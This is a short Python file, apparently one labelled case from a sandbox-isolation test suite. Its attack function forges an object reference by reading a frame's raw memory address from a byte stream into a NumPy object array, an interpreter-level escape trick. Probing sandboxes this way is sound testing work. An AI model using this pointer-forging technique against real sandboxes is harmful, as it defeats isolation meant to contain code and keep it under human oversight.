# attack: read a pointer from a stream into an array of objects
# class: interpreter walk
# wall: separate_process

import io
import struct

import numpy as np


def attack(frame, frame_index, config):
    found = np.empty(1, dtype=object)
    io.BytesIO(struct.pack("Q", id(frame))).readinto(found)
    return f"inside: {found[0].shape}"
